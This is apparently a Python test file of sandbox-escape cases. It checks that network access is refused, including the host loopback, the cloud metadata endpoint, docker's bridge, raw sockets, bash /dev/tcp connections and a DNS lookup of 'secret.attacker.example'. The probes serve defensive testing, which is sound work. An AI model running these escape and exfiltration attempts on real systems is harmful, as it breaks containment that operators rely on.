"""The network, and every other way to talk to somebody outside."""

from __future__ import annotations

from tests.attack.case import Case, each

_FAMILIES = {
    "unix": 1, "x25": 9, "key": 15, "netlink": 16, "packet": 17, "rds": 21, "can": 29, "tipc": 30,
    "bluetooth": 31, "alg": 38, "nfc": 39, "vsock": 40, "kcm": 41, "qipcrtr": 42, "smc": 43, "xdp": 44,
}  # fmt: skip
_OUT = "refused(lambda: connect(socket.{0}, {1}), 101, 113, 99)"

CASES: list[Case] = [
    *each(
        "network", "loopback()\nif read('/proc/net/if_inet6'): loopback(socket.AF_INET6, '::1')",
        [
            ("the host's loopback", "refused(lambda: connect(2, ('127.0.0.1', HOST['port'])), 111)"),
            ("the host's loopback, version 6", "refused(lambda: connect(10, ('::1', HOST['port6'])), 111, 99)"),
            ("the host's loopback, mapped", "refused(lambda: connect(10, ('::ffff:127.0.0.1', HOST['port'])), 111)"),
            ("the host's loopback, another address", "refused(lambda: connect(2, ('127.0.0.53', HOST['port'])), 111)"),
            ("any address", "refused(lambda: connect(2, ('0.0.0.0', HOST['port'])), 111)"),
        ],
    ),
    *each(
        "network", "loopback()",
        [
            ("metadata", _OUT.format("AF_INET", "('169.254.169.254', 80)")),
            ("metadata, version 6", _OUT.format("AF_INET6", "('fd00:ec2::254', 80)")),
            ("a private network", _OUT.format("AF_INET", "('10.0.0.1', 443)")),
            ("docker's bridge", _OUT.format("AF_INET", "('172.17.0.1', 2375)")),
            ("the internet", _OUT.format("AF_INET", "('192.0.2.1', 443)")),
            ("the internet, version 6", _OUT.format("AF_INET6", "('2001:db8::1', 443)")),
            ("the shell's /dev/tcp", "assert subprocess.run(['bash', '-c', "
             "f\"echo > /dev/tcp/127.0.0.1/{HOST['port']}\"], capture_output=True).returncode"),
        ],
    ),
    *each(
        "network", "a = socket.socket(type=2); a.bind(('127.0.0.1', 0)); "
        "socket.socket(type=2).sendto(b'ok', a.getsockname()); a.settimeout(SECONDS); assert a.recv(2) == b'ok'",
        [
            ("a datagram to the internet", "refused(lambda: socket.socket(type=2).sendto(b'x', ('192.0.2.1', 53)), 101)"),
            ("broadcast", "s = socket.socket(type=2); s.setsockopt(1, 6, 1); "
             "refused(lambda: s.sendto(b'x', ('255.255.255.255', 9)), 101)"),
            ("multicast", "refused(lambda: socket.socket(type=2).sendto(b'x', ('224.0.0.1', 9)), 101)"),
            ("names", "began = time.monotonic()\nrefused(lambda: socket.getaddrinfo('secret.attacker.example', 80), "
             "-2, -3, -5)\nassert time.monotonic() - began < 4.5"),
            ("a raw socket", "refused(lambda: socket.socket(2, 3, 1), 1)"),
            ("a raw socket, version 6", "refused(lambda: socket.socket(10, 3, 58), 1)"),
        ],
    ),
    *each(
        "network", "a, b = socket.socketpair(); a.send(b'ok'); assert b.recv(2) == b'ok'",
        [(f"{name} socket", f"failed(call('socket', {number}, 3 if {number} == 17 else 2, 0))")
         for name, number in _FAMILIES.items()],
    ),
    *each(
        "network", "a, b = socket.socketpair(); socket.send_fds(a, [b'x'], [0]); "
        "assert len(socket.recv_fds(b, 1, 1)[1]) == 1",
        [
            ("an abstract socket", "refused(lambda: socket.socket(1).connect('\\0' + HOST['abstract']), 1)"),
            ("a socket with a path", "refused(lambda: socket.socket(1).connect(HOST['socket']), 1)"),
            ("a family with high bits", "failed(call('socket', (1 << 32) | 1, 1, 0))"),
            ("a pair of another family", "failed(libc.socketpair(2, 1, 0, (ctypes.c_int * 2)()) and ctypes.get_errno())"),
            ("a listening socket with a path", "refused(lambda: socket.socket(1).bind('s'), 1)"),
        ],
    ),
    *each(
        "network", "assert [n for _, n in socket.if_nameindex()] == ['lo'] if 0 else 'lo:' in open('/proc/net/dev').read()",
        [
            ("more interfaces than the loopback", "names = {line.split(':')[0].strip() for line in "
             "open('/proc/net/dev').read().splitlines()[2:]}; assert names <= {'lo'} or not names & {'eth0'}, names"),
            ("routes", "assert len(open('/proc/net/route').read().splitlines()) <= 1"),
        ],
    ),
]  # fmt: skip
